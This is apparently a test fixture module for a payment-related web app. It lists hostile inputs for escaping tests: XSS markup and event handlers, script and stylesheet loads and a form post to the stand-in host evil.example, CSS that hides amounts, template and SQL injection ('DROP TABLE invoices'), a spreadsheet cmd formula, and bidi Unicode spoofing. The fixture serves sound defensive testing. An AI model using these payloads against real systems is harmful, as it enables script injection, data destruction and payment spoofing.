import { isProving } from '../proof/rounds.ts'
import { hostileTexts } from '../views/hostile.ts'

/** Each would call `boom`, request `evil.example`, or hide the page's content, if it were not escaped. */
const markup = [
  '<script>boom(1)</script>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=boom(1)>',
  '<svg onload=boom(1)>',
  '<svg><animate onbegin=boom(1) attributeName=x dur=1s>',
  '<body onload=boom(1)>',
  '<iframe src=javascript:boom(1)>',
  '<object data="data:text/html,<script>top.boom(1)</script>">',
  '<details open ontoggle=boom(1)>',
  '<video><source onerror=boom(1)></video>',
  '<input autofocus onfocus=boom(1)>',
  '<a href=javascript:boom(1) autofocus onfocus=boom(1)>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css";.amount,.sender-name{display:none}</style>',
  '<form action=//evil.example><button>Pay</button>',
  '<div hx-get=//evil.example hx-trigger=load hx-on::load=boom(1)>',
] as const

/** Prefixes that close the context in which a text is inserted. */
const closings = [
  '',
  '">',
  "'>",
  '</title>',
  '</style>',
  '</script>',
  '</bdi></p></div>',
  '</textarea>',
  '-->',
  ']]>',
] as const

/** Payloads for contexts other than element content: attributes, styles, URLs, scripts, templates, headers, spreadsheets. */
const elsewhere = [
  'constructor',
  '" onmouseover="boom(1)" style="position:fixed;inset:0;z-index:9',
  "' onpointerenter='boom(1)' x='",
  '` onfocus=boom(1) autofocus `',
  '#fff;}*{display:none!important}:root{--x:#fff',
  '#fff}</style><script>boom(1)</script>',
  'url(//evil.example/x)',
  'red;background:url(//evil.example/x)',
  'expression(boom(1))',
  '\\3c script\\3e boom(1)',
  '}@import url(//evil.example/x.css);{',
  'java\tscript:boom(1)',
  'JaVaScRiPt:boom(1)//',
  'vbscript:boom(1)',
  'data:text/html;base64,PHNjcmlwdD5ib29tKDEpPC9zY3JpcHQ+',
  'https://evil.example/',
  '//evil.example/',
  '\\\\evil.example\\',
  'https:evil.example',
  'https://pay.example@evil.example/',
  '?cc=everybody@evil.example&subject=boom',
  '";boom(1);//',
  "'-boom(1)-'",
  '</script><script>boom(1)</script>',
  '{{boom(1)}}',
  '{{constructor.constructor("boom(1)")()}}',
  '<%= boom(1) %>',
  '#{boom(1)}',
  '+ADw-script+AD4-boom(1)+ADw-/script+AD4-',
  '%3Cscript%3Eboom(1)%3C/script%3E',
  '＜script＞boom(1)＜/script＞',
  '<scr<script>ipt>boom(1)</scr</script>ipt>',
  '<ſcript>boom(1)</ſcript>',
  '&lt;img src=x onerror=boom(1)&gt;',
  '&#x6a;avascript:boom(1)',
  '__proto__',
  "'; DROP TABLE invoices; --",
  '@SUM(1+1)*cmd|calc!A0',
  '\u202e00.091,1€ yap\u202c',
  '\u2067€1.00\u2069 \u2066',
  '\u200b\u200d\ufeff',
  `${'A\u0301'.repeat(60)}${'\u0335\u0336\u0337\u0338'.repeat(60)}`,
  `x${'\u0489'.repeat(200)}`,
  '﷽'.repeat(30),
  ' '.repeat(200),
  '\n'.repeat(60),
  'ا'.repeat(300),
  '👩🏽‍🚀'.repeat(60),
] as const

const closed = closings.flatMap((closing) => markup.map((tag) => `${closing}${tag}`))

const all: readonly string[] = [...hostileTexts, ...elsewhere, ...closed]

/** A share with something of each kind in a normal run, all of them in the full proof. */
export const payloads: readonly string[] = isProving
  ? all
  : [
      ...hostileTexts.filter((_, i) => i % 2 === 0),
      ...elsewhere.filter((_, i) => i % 3 === 0),
      ...closed.filter((_, i) => i % 17 === 0),
    ]
